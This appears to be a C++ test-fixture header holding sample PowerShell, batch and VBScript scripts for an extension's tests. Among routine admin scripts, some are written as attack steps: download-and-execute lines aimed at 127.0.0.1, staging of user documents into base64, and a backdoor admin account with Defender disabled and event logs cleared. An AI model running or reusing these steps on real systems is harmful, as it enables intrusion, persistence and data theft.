// Scripts of the kinds that the extension is used to run, written for the tests: what they do is harmless or fails. For PowerShell, batch
// and VBScript there is nothing on a Debian machine to learn from.
#pragma once

#include <array>
#include <string_view>

namespace trimcarve::samples {

inline constexpr std::array<std::string_view, 9> powershell{
    R"~(param(
    [Parameter(Mandatory = $true)]
    [string]$StorageAccount,
    [int]$Retries = 5
)
$ErrorActionPreference = 'Stop'
function Write-Log {
    param([string]$Message)
    $stamp = Get-Date -Format 'yyyy-MM-dd HH:mm:ss'
    Add-Content -Path 'C:\Temp\setup.log' -Value "$stamp $Message"
}
for ($i = 0; $i -lt $Retries; $i++) {
    try {
        $response = Invoke-WebRequest -Uri "https://$StorageAccount.example/agent.msi" -OutFile C:\Temp\agent.msi -UseBasicParsing
        Write-Log "downloaded after $i tries"
        break
    } catch {
        Write-Log "failed: $($_.Exception.Message)"
        Start-Sleep -Seconds 10
    }
}
Start-Process msiexec.exe -ArgumentList '/i', 'C:\Temp\agent.msi', '/qn' -Wait
)~",
    R"~(# Joins the machine to the domain and renames it.
$domain = 'corp.example'
$user = "$domain\joiner"
$secret = ConvertTo-SecureString $env:JOIN_SECRET -AsPlainText -Force
$credential = New-Object System.Management.Automation.PSCredential($user, $secret)
$name = 'WEB-{0:D3}' -f (Get-Random -Minimum 1 -Maximum 999)
if ((Get-WmiObject Win32_ComputerSystem).PartOfDomain -eq $false) {
    Add-Computer -DomainName $domain -Credential $credential -NewName $name -Force
    Restart-Computer -Force
} else {
    Write-Host "already a member of $domain"
}
)~",
    R"~(Get-ChildItem -Path C:\Users -Recurse -Include *.docx, *.xlsx -ErrorAction SilentlyContinue |
    Where-Object { $_.Length -gt 10KB -and $_.LastWriteTime -gt (Get-Date).AddDays(-30) } |
    ForEach-Object {
        $target = Join-Path C:\Temp\stage $_.Name
        Copy-Item $_.FullName $target
    }
Compress-Archive -Path C:\Temp\stage\* -DestinationPath C:\Temp\stage.zip -Force
$bytes = [System.IO.File]::ReadAllBytes('C:\Temp\stage.zip')
[Convert]::ToBase64String($bytes) | Out-File C:\Temp\stage.b64
Remove-Item C:\Temp\stage -Recurse -Force
)~",
    R"~($features = 'Web-Server', 'Web-Asp-Net45', 'Web-Mgmt-Console'
foreach ($feature in $features) {
    $state = Get-WindowsFeature -Name $feature
    if (-not $state.Installed) {
        Install-WindowsFeature -Name $feature -IncludeManagementTools | Out-Null
        Write-Output "installed $feature"
    }
}
Import-Module WebAdministration
New-Item -ItemType Directory -Path C:\inetpub\app -Force | Out-Null
New-Website -Name 'app' -Port 8080 -PhysicalPath C:\inetpub\app -Force
Set-ItemProperty 'IIS:\AppPools\app' -Name processModel.identityType -Value 2
New-NetFirewallRule -DisplayName 'app' -Direction Inbound -Protocol TCP -LocalPort 8080 -Action Allow
)~",
    R"~(powershell.exe -NoProfile -ExecutionPolicy Unrestricted -EncodedCommand VwByAGkAdABlAC0ASABvAHMAdAAgACcAaABlAGwAbABvACcA
)~",
    R"~(IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:8000/stage2.ps1')
)~",
    R"~([CmdletBinding()]
param()
$disks = Get-Disk | Where-Object PartitionStyle -eq 'RAW' | Sort-Object Number
$letters = 70..89 | ForEach-Object { [char]$_ }
$count = 0
foreach ($disk in $disks) {
    $letter = $letters[$count].ToString()
    $disk |
        Initialize-Disk -PartitionStyle GPT -PassThru |
        New-Partition -UseMaximumSize -DriveLetter $letter |
        Format-Volume -FileSystem NTFS -NewFileSystemLabel "data$count" -Confirm:$false -Force
    $count++
}
Write-Verbose "$count disks were initialised"
exit 0
)~",
    R"~(function Test-Port([string]$ComputerName, [int]$Port) {
    $client = New-Object System.Net.Sockets.TcpClient
    try {
        $client.Connect($ComputerName, $Port)
        return $true
    } catch {
        return $false
    } finally {
        $client.Dispose()
    }
}
$hosts = Get-Content C:\Temp\hosts.txt
$result = @{}
foreach ($h in $hosts) {
    $result[$h] = Test-Port -ComputerName $h -Port 3389
}
$result.GetEnumerator() | Sort-Object Name | Format-Table -AutoSize
)~",
    R"~(New-LocalUser -Name 'support' -Password (ConvertTo-SecureString 'not-a-real-one' -AsPlainText -Force) -PasswordNeverExpires
Add-LocalGroupMember -Group 'Administrators' -Member 'support'
Set-ItemProperty -Path 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 0
Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'
Set-MpPreference -DisableRealtimeMonitoring $true
Clear-EventLog -LogName Application, System
)~"};

inline constexpr std::array<std::string_view, 6> batch{
    R"~(@echo off
setlocal enabledelayedexpansion
set SOURCE=%~dp0files
set TARGET=C:\Program Files\Example
if not exist "%TARGET%" mkdir "%TARGET%"
xcopy /s /y /q "%SOURCE%\*" "%TARGET%"
if errorlevel 1 (
    echo copying failed with %errorlevel%
    exit /b 1
)
sc create ExampleService binPath= "%TARGET%\service.exe" start= auto
net start ExampleService
exit /b 0
)~",
    R"~(@echo off
rem Waits until the database answers.
set tries=0
:again
ping -n 6 127.0.0.1 >nul
set /a tries+=1
sqlcmd -S localhost -Q "select 1" >nul 2>&1
if %errorlevel% equ 0 goto ready
if %tries% lss 20 goto again
echo the database does not answer
exit /b 1
:ready
call "%~dp0migrate.cmd" /quiet
)~",
    R"~(reg add "HKLM\SOFTWARE\Example\Agent" /v Server /t REG_SZ /d "10.0.0.4" /f
reg add "HKLM\SOFTWARE\Example\Agent" /v Port /t REG_DWORD /d 8443 /f
netsh advfirewall firewall add rule name="Example" dir=in action=allow protocol=TCP localport=8443
schtasks /create /tn Example /tr "%ProgramData%\Example\run.cmd" /sc onstart /ru SYSTEM /f
start "" "%ProgramData%\Example\run.cmd"
)~",
    R"~(@ECHO OFF
FOR /F "tokens=2 delims==" %%A IN ('wmic os get LocalDateTime /value') DO SET NOW=%%A
SET FOLDER=D:\Backup\%NOW:~0,8%
IF NOT EXIST %FOLDER% MD %FOLDER%
FOR %%F IN (C:\Data\*.mdb) DO (
    COPY /Y "%%F" %FOLDER%\ >NUL
    IF ERRORLEVEL 1 ECHO %%F could not be copied >> %FOLDER%\errors.txt
)
DEL /Q C:\Data\*.tmp
)~",
    R"~(net user helper N0t-a-real-one /add
net localgroup administrators helper /add
net stop "Windows Update"
taskkill /im outlook.exe /f
del /f /q %TEMP%\*.log
)~",
    R"~(@echo off
pushd %~dp0
title Setup
call :step "copying files"
robocopy payload "%ProgramFiles%\Tool" /e /njh /njs
call :step "registering"
"%ProgramFiles%\Tool\tool.exe" --register 1>nul 2>nul
popd
goto :eof
:step
echo [%time%] %~1
goto :eof
)~"};

inline constexpr std::array<std::string_view, 5> vbscript{
    R"~(Option Explicit
Dim shell, fso, folder, file
Set shell = CreateObject("WScript.Shell")
Set fso = CreateObject("Scripting.FileSystemObject")
Set folder = fso.GetFolder("C:\Temp")
For Each file In folder.Files
    If LCase(fso.GetExtensionName(file.Name)) = "log" Then
        file.Delete True
    End If
Next
shell.Run "net start Spooler", 0, True
WScript.Quit 0
)~",
    R"~(On Error Resume Next
strComputer = "."
Set objWMI = GetObject("winmgmts:\\" & strComputer & "\root\cimv2")
Set colItems = objWMI.ExecQuery("Select * from Win32_Product")
For Each objItem In colItems
    If InStr(objItem.Name, "Agent") > 0 Then
        WScript.Echo objItem.Name & " " & objItem.Version
        objItem.Uninstall
    End If
Next
)~",
    R"~(Function Download(url, path)
    Dim http, stream
    Set http = CreateObject("MSXML2.XMLHTTP")
    http.Open "GET", url, False
    http.Send
    If http.Status = 200 Then
        Set stream = CreateObject("ADODB.Stream")
        stream.Type = 1
        stream.Open
        stream.Write http.ResponseBody
        stream.SaveToFile path, 2
        stream.Close
        Download = True
    Else
        Download = False
    End If
End Function
If Download("http://127.0.0.1/tool.exe", "C:\Temp\tool.exe") Then
    CreateObject("WScript.Shell").Run "C:\Temp\tool.exe /quiet", 0, False
End If
)~",
    R"~(Sub AddUser(name, group)
    Dim computer, user
    Set computer = GetObject("WinNT://.,computer")
    Set user = computer.Create("user", name)
    user.SetPassword "not-a-real-one"
    user.SetInfo
    GetObject("WinNT://./" & group & ",group").Add user.ADsPath
End Sub
AddUser "helper", "Administrators"
)~",
    R"~(Const ForAppending = 8
Dim log, i
Set log = CreateObject("Scripting.FileSystemObject").OpenTextFile("C:\Temp\wait.log", ForAppending, True)
i = 0
Do While i < 30
    log.WriteLine Now & " waiting " & i
    WScript.Sleep 1000
    i = i + 1
Loop
log.Close
)~"};

}  // namespace trimcarve::samples
